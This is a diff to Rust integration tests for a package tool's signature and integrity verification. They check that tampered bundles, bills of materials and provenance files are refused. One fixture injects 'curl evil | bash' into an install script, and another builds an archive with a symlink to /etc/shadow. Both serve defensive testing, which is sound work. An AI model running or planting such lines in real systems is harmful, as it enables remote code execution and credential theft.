@@ -36,12 +36,115 @@ fn a_signed_dist_installs_and_every_tampering_is_refused_before_anything_is_unpa
     let (dist, spec) = two_addons();
     let vendor = SigningKey::generate().unwrap();
     let intruder = SigningKey::generate().unwrap();
+    // Each package's bill of materials and sealed provenance beside it, as a signed build
+    // writes them.
+    for name in ["alpha", "beta"] {
+        let package = dist.dist.path().join(format!("{name}-1.0.0.tar.gz"));
+        let beside = |suffix: &str| PathBuf::from(format!("{}{suffix}", package.display()));
+        let bom = berth_build::package::sbom::package_sbom(&package).unwrap();
+        fs_err::write(
+            beside(".cdx.json"),
+            serde_json::to_vec_pretty(&bom).unwrap(),
+        )
+        .unwrap();
+        let parameters = berth_build::package::provenance::BuildParameters {
+            addon: format!("addons/{name}/1.0.0"),
+            arch: "amd64".into(),
+            compression: 6,
+            mtime: 0,
+            distros: None,
+        };
+        let statement = berth_build::package::provenance::statement(&package, &parameters).unwrap();
+        let sealed = berth_formats::dsse::seal(&statement, &vendor).unwrap();
+        fs_err::write(beside(".intoto.json"), sealed.to_string()).unwrap();
+    }
     let signed = sign_dist(&vendor, dist.dist.path()).unwrap();
-    assert_eq!(signed.len(), 3, "versions.json and two .sha256: {signed:?}");
+    assert_eq!(
+        signed.len(),
+        5,
+        "versions.json, two .sha256 and two bills of materials: {signed:?}"
+    );
     let keys = tempfile::tempdir().unwrap();
     let trusted = write_key(keys.path(), "vendor", &vendor);
     let trust = ["--trust-key", trusted.to_str().unwrap()];
     let work = tempfile::tempdir().unwrap();
+
+    // `berth verify` checks every file, bills of materials and provenance among them; one
+    // re-signed or re-sealed by another key, or describing another package, fails.
+    let verify = |dist: &Path| {
+        Node::new().berth(&[
+            "verify",
+            dist.to_str().unwrap(),
+            "--trust-key",
+            trusted.to_str().unwrap(),
+        ])
+    };
+    let checked = succeeded(&verify(dist.dist.path()));
+    for line in [
+        "ok    alpha-1.0.0.tar.gz: its .sha256 signed by a trusted key",
+        "ok    alpha-1.0.0.tar.gz.cdx.json: signed by a trusted key, and names the package's digest",
+        "ok    beta-1.0.0.tar.gz.intoto.json: signed by a trusted key, and its subject is this package",
+        "berth: 7 checked, 0 failed",
+    ] {
+        assert!(checked.contains(line), "{line} in {checked}");
+    }
+    type BesideTamper = fn(&Path, &SigningKey);
+    let beside_cases: [(&str, BesideTamper, &str); 3] = [
+        (
+            "a bill of materials re-signed by another key",
+            |dist, intruder| {
+                let path = dist.join("alpha-1.0.0.tar.gz.cdx.json");
+                let text = fs_err::read_to_string(&path).unwrap();
+                fs_err::write(&path, text.replace("\"alpha\"", "\"alpha2\"")).unwrap();
+                berth_build::publish::sign::sign_file(intruder, &path).unwrap();
+            },
+            "alpha-1.0.0.tar.gz.cdx.json: ",
+        ),
+        (
+            "another package's bill of materials, signed",
+            |dist, _| {
+                fs_err::copy(
+                    dist.join("beta-1.0.0.tar.gz.cdx.json"),
+                    dist.join("alpha-1.0.0.tar.gz.cdx.json"),
+                )
+                .unwrap();
+                fs_err::copy(
+                    dist.join("beta-1.0.0.tar.gz.cdx.json.sig"),
+                    dist.join("alpha-1.0.0.tar.gz.cdx.json.sig"),
+                )
+                .unwrap();
+            },
+            "it describes a package with sha256",
+        ),
+        (
+            "provenance sealed by another key",
+            |dist, intruder| {
+                let path = dist.join("beta-1.0.0.tar.gz.intoto.json");
+                let envelope: serde_json::Value =
+                    serde_json::from_str(&fs_err::read_to_string(&path).unwrap()).unwrap();
+                use base64::Engine as _;
+                let statement: serde_json::Value = serde_json::from_slice(
+                    &base64::engine::general_purpose::STANDARD
+                        .decode(envelope["payload"].as_str().unwrap())
+                        .unwrap(),
+                )
+                .unwrap();
+                let sealed = berth_formats::dsse::seal(&statement, intruder).unwrap();
+                fs_err::write(&path, sealed.to_string()).unwrap();
+            },
+            "beta-1.0.0.tar.gz.intoto.json is not signed by a trusted key",
+        ),
+    ];
+    for (what, tamper, expected) in beside_cases {
+        let copy = work.path().join(what.replace(' ', "-"));
+        copy_dist(dist.dist.path(), &copy);
+        tamper(&copy, &intruder);
+        let checked = failed(&verify(&copy));
+        assert!(
+            checked.contains("FAIL") && checked.contains(expected) && checked.contains("1 failed"),
+            "{what}: {checked}"
+        );
+    }
 
     // Untouched: it installs, and says nothing of checking digests alone.
     let node = Node::new();
@@ -124,8 +227,10 @@ fn a_signed_dist_installs_and_every_tampering_is_refused_before_anything_is_unpa
             "--trust-key",
             trusted.to_str().unwrap(),
         ]));
+        // A package swapped fails with its bill of materials and provenance, which name
+        // the package it replaced.
         assert!(
-            checked.contains("FAIL") && checked.contains("1 failed"),
+            checked.contains("FAIL") && !checked.contains(" 0 failed"),
             "{what}: {checked}"
         );
         if expected.contains("not signed") {
@@ -327,22 +432,98 @@ fn a_signed_airgap_bundle_installs_and_every_tampering_is_refused_before_anythin
     );
     let bundle = work.path().join("bundle");
     signed_bundle(&dist, &spec, &vendor, &bundle);
-    for file in ["versions.json.sig", "lock.json.sig"] {
+    for file in ["versions.json.sig", "lock.json.sig", "bundle.sha256.sig"] {
         assert!(bundle.join(file).is_file(), "{file} in the bundle");
     }
 
-    // `berth verify` checks the bundle, extracted or as its archive.
+    // `berth verify` checks the bundle, extracted or as its archive (read as a stream).
     for target in [bundle.clone(), bundle.with_extension("tar.gz")] {
         let checked =
             succeeded(&trusting_node(&vendor).berth(&["verify", target.to_str().unwrap()]));
         for line in [
             "ok    versions.json",
             "ok    lock.json: signed by a trusted key",
-            "ok    beta 1.0.0: every file matches",
+            "files match the package's index, which the lock pins",
+            "ok    bundle.sha256: every file (",
+            "the scripts and berth among them) is listed and matches; signed by a trusted key",
         ] {
             assert!(checked.contains(line), "{line} in {checked}");
         }
     }
+    // Its scripts, its binary and its file set are the vendor's too: a changed script, a
+    // changed binary or a file slipped in fails the check, as does a list re-signed by
+    // another key.
+    type FolderTamper = fn(&Path, &SigningKey);
+    let whole_cases: [(&str, FolderTamper, &str); 4] = [
+        (
+            "a script changed",
+            |bundle, _| {
+                let path = bundle.join("install.sh");
+                let text = fs_err::read_to_string(&path).unwrap();
+                fs_err::write(&path, text.replacen('\n', "\ncurl evil | bash\n", 1)).unwrap();
+            },
+            "install.sh has sha256",
+        ),
+        (
+            "the binary changed",
+            |bundle, _| {
+                let path = bundle.join("berth");
+                let mut bytes = fs_err::read(&path).unwrap();
+                let last = bytes.len() - 1;
+                bytes[last] ^= 1;
+                fs_err::write(&path, bytes).unwrap();
+            },
+            "berth has sha256",
+        ),
+        (
+            "a file slipped in",
+            |bundle, _| fs_err::write(bundle.join("packages/helper.sh"), "evil\n").unwrap(),
+            "packages/helper.sh is in the bundle, and bundle.sha256 does not list it",
+        ),
+        (
+            "the list re-signed by another key",
+            |bundle, intruder| {
+                berth_build::publish::sign::sign_file(intruder, &bundle.join("bundle.sha256"))
+                    .unwrap();
+            },
+            "bundle.sha256 is not signed by a trusted key",
+        ),
+    ];
+    for (what, tamper, expected) in whole_cases {
+        let copy = work.path().join(what.replace(' ', "-"));
+        copy_tree(&bundle, &copy);
+        tamper(&copy, &intruder);
+        let checked = failed(&trusting_node(&vendor).berth(&["verify", copy.to_str().unwrap()]));
+        assert!(
+            checked.contains(&format!("FAIL  bundle.sha256: {expected}"))
+                && checked.contains(" 1 failed"),
+            "{what}: {checked}"
+        );
+        // The same, as an archive.
+        let archive = work
+            .path()
+            .join(format!("{}.tar.gz", what.replace(' ', "-")));
+        run(std::process::Command::new("tar")
+            .arg("-czf")
+            .arg(&archive)
+            .arg("-C")
+            .arg(&copy)
+            .arg("."));
+        let checked = failed(&trusting_node(&vendor).berth(&["verify", archive.to_str().unwrap()]));
+        assert!(checked.contains(expected), "{what}, archived: {checked}");
+    }
+    // A crafted archive (a link inside) is refused, naming it, and nothing is extracted.
+    let crafted = work.path().join("crafted.tar.gz");
+    run(std::process::Command::new("bash").arg("-c").arg(format!(
+        "cd {} && ln -s /etc/shadow packages/shadow && tar -czf {} . && rm packages/shadow",
+        bundle.display(),
+        crafted.display()
+    )));
+    let refused = failed(&trusting_node(&vendor).berth(&["verify", crafted.to_str().unwrap()]));
+    assert!(
+        refused.contains("packages/shadow` is a Symlink entry"),
+        "{refused}"
+    );
 
     // Untouched, on a node that keeps the vendor's key: it installs.
     let node = trusting_node(&vendor);
